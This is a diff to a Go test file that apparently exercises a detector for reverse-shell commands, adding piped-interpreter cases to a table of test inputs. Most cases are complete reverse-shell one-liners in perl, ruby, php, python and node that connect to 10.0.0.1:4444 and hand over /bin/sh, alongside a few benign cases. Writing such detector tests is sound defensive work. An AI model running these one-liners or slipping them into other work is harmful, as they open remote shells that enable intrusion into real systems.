@@ -48,6 +48,10 @@ func TestReverseShellScriptSocket(t *testing.T) {
 		cmdCase(`perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, true),
 		cmdCase(`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, true),
 		cmdCase(`php -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, true),
+		// The same programs piped into the interpreter.
+		cmdCase(`echo 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])' | python3 -`, true),
+		cmdCase(`echo 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");' | perl`, true),
+		cmdCase(`echo 'import socket; print(socket.gethostname())' | python3`, false),
 		cmdCase(`node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'`, true),
 		cmdCase(`python3 -c 'import socket; print(socket.gethostname())'`, false),
 		cmdCase(`python3 -c 'import subprocess; subprocess.run(["ls"])'`, false),
